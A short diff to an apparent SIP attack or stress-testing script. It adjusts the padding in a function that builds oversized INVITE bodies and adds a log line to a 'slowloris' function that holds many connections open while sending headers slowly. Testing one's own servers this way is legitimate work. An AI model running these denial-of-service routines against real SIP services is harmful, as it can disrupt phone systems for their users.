@@ -68,7 +68,7 @@ def invite(host, port, user, secret, uri, size):
            "a=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:WVNfX19zZW1jdGwgKCkgewkyMjA7fQp9CnVubGVz",
            "a=rtpmap:0 PCMU/8000", "a=rtpmap:101 telephone-event/8000", "a=sendrecv"]
     i = 0
-    while len("\r\n".join(sdp)) < int(size) - 700:
+    while len("\r\n".join(sdp)) < int(size) - 550:
         sdp.append("a=x-pad-%d:%s" % (i, "p" * 60))
         i += 1
     body = "\r\n".join(sdp) + "\r\n"
@@ -192,6 +192,7 @@ def slowloris(host, port, conns, seconds):
     text = (b"INVITE sip:100@%s SIP/2.0\r\nVia: SIP/2.0/TCP 10.0.0.1;branch=z9hG4bKslow\r\n"
             b"X-Slow: " % host.encode()) + b"a" * 4000
     socks = [socket.create_connection((host, int(port)), timeout=2) for _ in range(int(conns))]
+    print("connected %d" % len(socks), flush=True)
     closed_at = [None] * len(socks)
     pos = 0
     while time.time() < end and None in closed_at and pos < len(text):
